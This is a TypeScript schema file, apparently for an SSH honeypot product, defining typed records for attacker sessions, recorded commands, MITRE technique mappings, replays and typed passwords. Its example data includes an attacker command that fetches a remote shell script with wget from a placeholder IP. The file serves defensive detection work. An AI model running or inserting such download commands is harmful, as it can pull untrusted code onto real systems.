import { type Static, Type } from 'typebox';
import { named } from './named.ts';
import { nullable } from './nullable.ts';
import { SAMPLE } from './sample.ts';
import { ThreatLevelSchema } from './vocabulary.ts';

const FIELDS = {
  id: Type.String({ description: 'Id of the detection.' }),
  property_id: Type.String(),
  actor_id: Type.String(),
  timestamp: Type.String(),
  agent: Type.String({ description: 'Name of the agent when it reported.' }),
  ip_address: nullable(Type.String()),
  country: nullable(Type.String()),
  username: Type.String(),
  client_version: Type.String(),
  hassh: Type.String({ description: 'Hash of what the client offers in its key exchange; empty when unknown.' }),
  duration_seconds: Type.Number(),
  command_count: Type.Integer(),
  file_count: Type.Integer(),
  download_count: Type.Integer(),
  has_recording: Type.Boolean(),
  bot_score: Type.Integer(),
  threat_level: ThreatLevelSchema,
};
const EXAMPLE = {
  id: SAMPLE.detectionId,
  property_id: SAMPLE.propertyId,
  actor_id: SAMPLE.actorId,
  timestamp: SAMPLE.at,
  agent: 'office',
  ip_address: SAMPLE.ip,
  country: 'NL',
  username: 'root',
  client_version: 'SSH-2.0-libssh2_1.11.0',
  hassh: '',
  duration_seconds: 12.4,
  command_count: 2,
  file_count: 0,
  download_count: 1,
  has_recording: true,
  bot_score: 56,
  threat_level: 'MEDIUM' as const,
};

/** A session at an SSH honeypot, as lists show it. */
export const SshSession = named('SshSession', Type.Object(FIELDS), EXAMPLE);
export type SshSession = Static<typeof SshSession>;

const SshDeed = named(
  'SshDeed',
  Type.Object({
    name: Type.String(),
    technique_id: Type.String(),
    technique: Type.String(),
    tactic_id: Type.String(),
    command: Type.String({ description: 'The first command that shows it.' }),
  }),
);
const SshFile = named('SshFile', Type.Object({ path: Type.String(), bytes: Type.Integer(), sha256: Type.String() }));

/** A session with everything that was done in it. */
export const SshSessionDetail = named(
  'SshSessionDetail',
  Type.Object({
    ...FIELDS,
    commands: Type.Array(Type.String()),
    downloads: Type.Array(Type.String({ description: 'Addresses that the commands named. Nothing was loaded.' })),
    files: Type.Array(SshFile),
    deeds: Type.Array(SshDeed),
  }),
  {
    ...EXAMPLE,
    commands: ['uname -a', 'wget http://192.0.2.9/x.sh'],
    downloads: ['http://192.0.2.9/x.sh'],
    files: [],
    deeds: [
      {
        name: 'loads_tools',
        technique_id: 'T1105',
        technique: 'Ingress Tool Transfer',
        tactic_id: 'TA0011',
        command: 'wget http://192.0.2.9/x.sh',
      },
    ],
  },
);
export type SshSessionDetail = Static<typeof SshSessionDetail>;

export const SshReplay = named(
  'SshReplay',
  Type.Object({ format: Type.Literal('asciicast-v2'), recording: Type.String({ description: 'Lines of JSON.' }) }),
  { format: 'asciicast-v2', recording: '{"version":2,"width":80,"height":24}\n[0.5,"o","$ "]\n' },
);

export const TypedPassword = named(
  'TypedPassword',
  Type.Object({
    username: Type.String(),
    password: nullable(Type.String({ description: 'Null when none was typed.' })),
    success: nullable(Type.Boolean()),
  }),
  { username: 'root', password: 'hunter2', success: false },
);
